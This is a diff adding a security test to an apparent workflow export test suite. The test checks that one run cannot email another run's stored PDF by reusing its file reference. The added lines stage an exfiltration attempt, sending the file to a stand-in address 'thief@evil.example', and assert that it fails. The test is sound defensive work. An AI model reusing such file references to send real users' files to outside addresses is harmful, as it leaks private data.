@@ -202,6 +202,15 @@ def test_export_view_pdf_with_filters_lands_in_the_blob_store_and_sendgrid_attac
         assert base64.b64decode(attachment["content"]) == PDF
         assert attachment["filename"] == "sales.pdf" and attachment["type"] == "application/pdf"
 
+        # another run, whose payload names that run's file reference (seen in flowrun show, a
+        # log, a reply), attaches nothing: the file was not kept by it or a run of its family
+        stolen = run(tmp_path, connections, {
+            "mail": {"type": "sendgrid.SendEmail", "connection": "sendgrid",
+                     "inputs": {"to": "thief@evil.example", "from": "bi@acme.example", "subject": "x", "text": "x",
+                                "attachments": [{"file": "{{ triggerBody().ref }}"}]}}}, input={"ref": ref})
+        assert stolen.status == "Failed" and stolen.steps["mail"].error["code"] == "FileNotFound"
+        assert len(sendgrid.requests) == 1
+
 
 def test_export_csv_and_png_by_view_id(tmp_path, connections, tableau):
     result = run(tmp_path, connections, {
